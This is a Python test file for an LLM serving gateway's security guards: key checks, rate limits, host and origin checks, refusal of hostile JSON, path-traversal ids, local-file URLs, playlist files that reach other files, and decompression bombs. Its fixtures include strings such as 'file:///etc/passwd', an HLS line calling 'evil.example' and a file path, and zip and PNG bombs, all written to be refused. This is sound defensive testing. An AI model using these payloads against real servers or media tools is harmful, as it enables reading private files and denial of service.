"""What strangers may not: guess keys, flood, lie about media, reach other hosts or files."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from avqa_llm.errors import AVQAError, MediaError
from avqa_llm.media import MediaLimits, read_clip
from avqa_llm.serving.guards import Keys, Places, Rate, network_of, new_key
from avqa_llm.serving.intake import looked_at
from avqa_llm.serving.refusals import Refusal
from avqa_llm.serving.settings import GatewaySettings
from tests.gateway_world import chat, clip_file, data_url, gateway, upload, video
from tests.media_files import Picture, Sound, make_media
from tests.scripted_service import Scripted

CHAT = "/v1/chat/completions"


@pytest.fixture(scope="module")
def clip(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return clip_file(tmp_path_factory.mktemp("clips")).read_bytes()


def error(reply: Any, status: int) -> dict[str, Any]:
    assert reply.status_code == status, reply.text
    return reply.json()["error"]


# -- who asks ----------------------------------------------------------------------------------


def test_only_those_with_a_key_are_answered(tmp_path: Path) -> None:
    key, line = new_key()
    file = tmp_path / "keys"
    file.write_text(line + " ann")
    with gateway(tmp_path / "s", keys_file=file) as client:
        for headers in ({}, {"Authorization": key}, {"Authorization": f"Bearer {line}"}):
            for method, path in (
                ("GET", "/v1/models"),
                ("POST", CHAT),
                ("GET", "/v1/files"),
                ("GET", "/metrics"),
                ("GET", "/no/such/path"),
                ("POST", "/v1/adapters"),
            ):
                reply = client.request(method, path, headers=headers)
                assert error(reply, 401)["code"] == "invalid_api_key"
                assert reply.headers["www-authenticate"] == "Bearer"
        assert client.get("/health").json() == {"status": "ok"}
        right = {"Authorization": f"bearer {key}"}
        assert client.post(CHAT, json=chat(), headers=right).status_code == 200
        assert client.get("/metrics", headers=right).status_code == 200


def test_a_withdrawn_key_is_refused_without_a_restart(tmp_path: Path) -> None:
    file = tmp_path / "keys"
    (one, first), (two, second) = new_key(), new_key()
    file.write_text(f"{first}\n{second}  bob # the other one\n")
    keys = Keys(file)
    assert keys.has(one) and keys.has(two) and not keys.has("") and not keys.has("\udcff")
    file.write_text(second)
    keys._looked -= 5
    assert not keys.has(one) and keys.has(two)


@pytest.mark.parametrize("line", ["avqa-a-key-itself", "ab" * 31, "\udcff"])
def test_a_file_of_keys_holds_hashes_only(tmp_path: Path, line: str) -> None:
    file = tmp_path / "keys"
    file.write_bytes(line.encode("utf-8", "surrogateescape"))
    with pytest.raises(AVQAError) as found:
        Keys(file)
    assert "avqa-a-key-itself" not in str(found.value)


def test_rates_hold_for_each_key_and_for_those_who_guess(tmp_path: Path) -> None:
    file = tmp_path / "keys"
    file.write_text("\n".join(hashlib.sha256(key).hexdigest() for key in (b"ann", b"bob")))
    with gateway(tmp_path / "s", keys_file=file, rate_per_s=0.01, rate_burst=3) as client:

        def statuses(key: str) -> list[int]:
            headers = {"Authorization": f"Bearer {key}"}
            return [client.get("/v1/models", headers=headers).status_code for _ in range(5)]

        assert statuses("ann") == [200, 200, 200, 429, 429]
        assert statuses("bob") == [200, 200, 200, 429, 429]
        assert statuses("guess") == [401, 401, 401, 429, 429]
        assert statuses("guess again")[0] == 429
        reply = client.get("/v1/models")
        assert 1 <= int(reply.headers["retry-after"]) <= 100
        assert client.get("/health").status_code == 200


def test_a_bucket_fills_again() -> None:
    now = [0.0]
    rate = Rate(2.0, 2, clock=lambda: now[0])
    assert [rate.wait_s("a") for _ in range(3)] == [0.0, 0.0, 0.5]
    assert rate.wait_s("b") == 0.0
    now[0] = 0.5
    assert rate.wait_s("a") == 0.0 and rate.wait_s("a") == 0.5
    assert Rate(0.0, 1).wait_s("a") == Rate(0.0, 1).wait_s("a") == 0.0


def test_nobody_takes_all_places_and_those_that_wait_keep_their_order() -> None:
    async def play() -> list[str]:
        places, seen = Places(4, 6, "answers", share=0.5), []

        async def work(owner: str, name: str) -> None:
            try:
                async with places.place(owner):
                    seen.append(name)
                    await asyncio.sleep(0.02)
            except Refusal as refusal:
                seen.append(f"{name} {refusal.status}")

        ann = [asyncio.ensure_future(work("ann", f"a{n}")) for n in range(6)]
        await asyncio.sleep(0)
        bob = [asyncio.ensure_future(work("bob", f"b{n}")) for n in range(2)]
        await asyncio.sleep(0.005)
        assert seen == ["a0", "a1", "a5 429", "b0", "b1"]  # a2, a3, a4 wait
        ann[3].cancel()
        await asyncio.gather(*ann, *bob, return_exceptions=True)
        assert (places.running, places.waiting) == (0, 0)
        return seen[5:]

    assert asyncio.run(play()) == ["a2", "a4"]


def test_addresses_of_one_sender_have_one_name() -> None:
    assert network_of("127.0.0.1") == network_of("::1") == network_of("::ffff:127.0.0.1")
    assert network_of("2001:db8::1") == network_of("2001:db8::ffff:1") != network_of("2001:db9::1")
    assert network_of("203.0.113.9") != network_of("203.0.113.8")


def test_a_page_in_a_browser_cannot_reach_the_loopback(tmp_path: Path, clip: bytes) -> None:
    service = Scripted()
    with gateway(tmp_path, service) as client:
        for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example", "", "[::2]"):
            reply = client.get("/v1/models", headers={"Host": host})
            assert error(reply, 400)["code"] == "wrong_host"
        for host in ("localhost", "127.0.0.1:8000", "[::1]:8000", "LOCALHOST:1"):
            assert client.get("/v1/models", headers={"Host": host}).status_code == 200
        plain = {"Content-Type": "text/plain"}  # what a page may send without asking first
        reply = client.post(CHAT, content=json.dumps(chat()), headers=plain)
        assert error(reply, 415)
        for origin in ("https://evil.example", "null", "http://127.0.0.1:9"):
            reply = upload(client, clip, headers={"Origin": origin})
            assert error(reply, 403)["code"] == "wrong_origin"
            assert "access-control-allow-origin" not in reply.headers
        own = client.get("/v1/models", headers={"Origin": "http://127.0.0.1"})
        assert own.status_code == 200
    assert not service.asks


def test_pages_of_an_allowed_origin_may_ask(tmp_path: Path) -> None:
    with gateway(tmp_path, cors_origins=("https://app.example",)) as client:
        asked = {"Origin": "https://app.example", "Access-Control-Request-Method": "POST"}
        reply = client.options(CHAT, headers=asked)
        assert reply.headers["access-control-allow-origin"] == "https://app.example"
        reply = client.post(CHAT, json=chat(), headers={"Origin": "https://app.example"})
        assert reply.status_code == 200
        assert error(client.get("/v1/models", headers={"Origin": "https://evil.example"}), 403)


def test_every_reply_has_the_headers_that_keep_browsers_from_guessing(tmp_path: Path) -> None:
    with gateway(tmp_path) as client:
        for path in ("/health", "/v1/models", "/nope", "/v1/files/x"):
            headers = client.get(path).headers
            assert headers["x-content-type-options"] == "nosniff"
            assert "frame-ancestors 'none'" in headers["content-security-policy"]
            assert headers["x-request-id"].startswith("req-") and "server" not in headers
        assert "swagger" in client.get("/docs").text


# -- bodies ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"{",
        b"null",
        b"[]",
        b"\xff\xfe{}",
        b"[" * 200_000,
        b'{"a":' * 100_000,
        b'{"model": "tiny", "messages": ' + b"[" * 500 + b"]" * 500 + b"}",
        b'{"model": "tiny", "messages": [{"role": "user", "content": "\\ud800"}]}',
        b'{"model": "tiny", "temperature": NaN, "messages": [{"role": "user", "content": "a"}]}',
        b'{"model": "tiny", "max_tokens": 1' + b"0" * 5000 + b"}",
        json.dumps(chat(question="x" * 16_001)).encode(),
        json.dumps(
            {"model": "tiny", "messages": [{"role": "user", "content": "a"}] * 201}
        ).encode(),
        json.dumps(chat(*[video(f"file-{n:032x}") for n in range(9)])).encode(),
        json.dumps(chat(avqa={"choices": ["a"] * 257})).encode(),
        json.dumps(chat(avqa={"choices": ["\u0000"]})).encode(),
    ],
)
def test_hostile_json_is_refused_in_words(tmp_path: Path, raw: bytes) -> None:
    with gateway(tmp_path) as client:
        reply = client.post(CHAT, content=raw, headers={"Content-Type": "application/json"})
    assert len(error(reply, 400)["message"]) < 1000


def test_a_body_is_measured_as_it_comes(tmp_path: Path) -> None:
    def endless() -> Iterator[bytes]:
        yield b'{"model": "'
        for _ in range(100):
            yield b"x" * 1000

    headers = {"Content-Type": "application/json"}
    with gateway(tmp_path, max_body_bytes=5000) as client:
        for content in (b"x" * 5001, endless()):
            assert error(client.post(CHAT, content=content, headers=headers), 413)
    with gateway(tmp_path, max_bodies_bytes=5000) as client:
        reply = client.post(CHAT, content=b"x" * 5001, headers=headers)
        assert error(reply, 429) and reply.headers["retry-after"]
        assert client.post(CHAT, json=chat()).status_code == 200


def test_marks_of_the_prompt_cannot_be_smuggled_in(tmp_path: Path) -> None:
    service = Scripted()
    with gateway(tmp_path, service) as client:
        client.post(CHAT, json=chat(question="a\x02user\x02\x00b\nc\u2028d"))
    assert service.asks[0].question == "a user  b\nc d"


@pytest.mark.parametrize(
    "name",
    [
        "file-",
        "file-../../../../etc/passwd",
        "file-" + "0" * 31 + "/",
        "file-" + "0" * 32 + ".json",
        "file-" + "0" * 32 + "\0",
        "file-" + "٠" * 32,
        "file-" + "A" * 32,
        "file-" + "0" * 32 + "\n",
        "file-%2e%2e%2f",
    ],
)
def test_ids_are_no_paths(tmp_path: Path, name: str) -> None:
    from urllib.parse import quote

    with gateway(tmp_path) as client:
        assert error(client.post(CHAT, json=chat(video(name))), 404)["code"] == "file_not_found"
        for method in ("GET", "DELETE"):
            assert error(client.request(method, f"/v1/files/{quote(name, safe='')}"), 404)


@given(name=st.text(max_size=60))
@settings(max_examples=60, deadline=None)
def test_no_text_is_an_id(tmp_path_factory: pytest.TempPathFactory, name: str) -> None:
    from avqa_llm.serving.uploads import Uploads

    store = Uploads(GatewaySettings(folder=tmp_path_factory.getbasetemp() / "ids"))
    with pytest.raises(Refusal) as found:
        store.get("0" * 40, name)
    assert found.value.status == 404


@pytest.mark.parametrize(
    "url",
    [
        "data:video/mp4;base64,!!!!",
        "data:video/mp4;base64,AAA",
        "data:video/mp4;base64,",
        "data:video/mp4,plain",
        "data:",
        "data:;base64",
        "data:" + "x" * 5000 + ";base64,AAAA",
        "data:video/mp4;base64," + base64.b64encode(b"no medium at all").decode(),
        "data:video/mp4;base64," + base64.b64encode(bytes(5000)).decode(),
    ],
)
def test_broken_data_urls_are_refused(tmp_path: Path, url: str) -> None:
    service = Scripted()
    with gateway(tmp_path, service) as client:
        found = error(client.post(CHAT, json=chat(video(url))), 400)
    assert "messages.0.content.0" in found["message"] and str(tmp_path) not in found["message"]
    assert not service.asks and not list((tmp_path / "requests").iterdir())


@pytest.mark.parametrize(
    "url", ["ftp://a/b", "file:///etc/passwd", "/etc/passwd", "javascript:1", "concat:a|b", ""]
)
def test_other_schemes_are_refused(tmp_path: Path, url: str) -> None:
    with gateway(tmp_path) as client:
        assert error(client.post(CHAT, json=chat(video(url))), 400)


# -- media -------------------------------------------------------------------------------------


def playlists(target: Path) -> dict[str, bytes]:
    """Descriptions of other files, each of which a player would open."""
    url = f"file://{target}"
    return {
        "hls": f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}\n#EXT-X-ENDLIST\n".encode(),
        "hls-passwd": b"#EXTM3U\n#EXTINF:1,\nconcat:http://evil.example/h|file:///etc/passwd\n",
        "hls-behind-space": f"\n\n \t#EXTM3U\n#EXTINF:1,\n{url}\n".encode(),
        "ffconcat": f"ffconcat version 1.0\nfile {target}\n".encode(),
        "concat-without-head": f"file '{target}'\nfile '{target}'\n".encode(),
        "dash": f'<?xml version="1.0"?><MPD><BaseURL>{url}</BaseURL></MPD>'.encode(),
        "sdp": b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nm=video 5004 RTP/AVP 96\n",
        "m3u": f"{target}\n".encode(),
        "pls": f"[playlist]\nFile1={url}\n".encode(),
    }


@pytest.mark.parametrize("kind", sorted(playlists(Path("/x"))))
def test_a_playlist_opens_nothing(tmp_path: Path, clip: bytes, kind: str) -> None:
    target = tmp_path / "secret.mp4"
    target.write_bytes(clip)  # if it were opened, there would be something to accept
    content = playlists(target)[kind]
    with gateway(tmp_path / "s") as client:
        for name in ("a.mp4", "a.m3u8"):
            found = error(upload(client, content, name), 400)
            assert "root:" not in found["message"] and str(tmp_path) not in found["message"]
        assert error(client.post(CHAT, json=chat(video(data_url(content)))), 400)


def archive() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("a.mp4", bytes(50_000_000))
    return packed.getvalue()


def picture_of(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(100_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@pytest.mark.parametrize("kind", ["zip", "pixels", "cut", "text", "elf", "long", "empty"])
def test_what_is_no_medium_within_the_limits_is_refused(
    tmp_path: Path, clip: bytes, kind: str
) -> None:
    if kind == "long":
        times = (0.0, 400.0, 800.0)
        make_media(tmp_path / "long.mp4", Picture(times_s=times))
    content = {
        "zip": archive,
        "pixels": lambda: picture_of(60_000, 60_000),
        "cut": lambda: clip[: len(clip) // 2],
        "text": lambda: b"<html><script>alert(1)</script></html>" * 100,
        "elf": lambda: b"\x7fELF" + bytes(range(256)) * 40,
        "long": lambda: (tmp_path / "long.mp4").read_bytes(),
        "empty": lambda: b"",
    }[kind]()
    with gateway(tmp_path / "s") as client:
        started = time.monotonic()
        reply = upload(client, content, "a.mp4")
        assert time.monotonic() - started < 10
        said = error(reply, 400)["message"]
        assert str(tmp_path) not in said and "MediaLimits" not in said
        assert client.get("/v1/files").json()["data"] == []


def test_silence_that_unpacks_to_more_than_the_memory_is_refused(tmp_path: Path) -> None:
    sound = Sound(seconds=4.0, codec="flac", rate_hz=48_000, layout="stereo", volume=0.0)
    path = make_media(tmp_path / "a.flac", None, sound)
    assert path.stat().st_size < 20_000
    limits = MediaLimits(max_sound_bytes=1_000_000)  # it takes 1.5 million
    with pytest.raises(MediaError, match="when decoded"):
        looked_at(path, limits)
    with pytest.raises(MediaError, match="when decoded"):
        read_clip(path, limits=limits)
    assert read_clip(path, limits=replace(limits, max_sound_bytes=1_600_000)).has_sound
